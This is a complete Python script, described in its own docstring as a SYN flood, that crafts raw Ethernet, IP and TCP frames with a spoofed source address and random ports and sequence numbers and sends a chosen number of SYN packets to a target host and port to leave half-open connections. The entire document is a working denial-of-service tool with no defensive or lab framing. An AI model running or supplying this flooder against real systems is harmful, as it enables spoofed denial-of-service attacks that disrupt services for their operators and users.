#!/usr/bin/env python3
"""Sends COUNT TCP SYNs to DST:PORT from SRC (an address nobody answers for) with random source
ports and sequence numbers, as raw Ethernet frames on IFACE to DST_MAC: a SYN flood that leaves
half-open connections behind. Prints what it sent as JSON."""
import argparse
import json
import random
import socket
import struct

ap = argparse.ArgumentParser()
ap.add_argument("--iface", required=True)
ap.add_argument("--dst-mac", required=True)
ap.add_argument("--src", required=True)
ap.add_argument("--dst", required=True)
ap.add_argument("--port", type=int, required=True)
ap.add_argument("--count", type=int, required=True)
args = ap.parse_args()


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((args.iface, 0))
src_mac = s.getsockname()[4]
dst_mac = bytes(int(b, 16) for b in args.dst_mac.split(":"))
src, dst = socket.inet_aton(args.src), socket.inet_aton(args.dst)
rng = random.Random(7)
for i in range(args.count):
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65535), args.port, rng.getrandbits(32), 0, 6 << 4, 0x02, 64240, 0, 0) + opts
    tcp = tcp[:16] + struct.pack("!H", csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    s.send(dst_mac + src_mac + b"\x08\x00" + ip + tcp)
print(json.dumps({"syns": args.count}), flush=True)
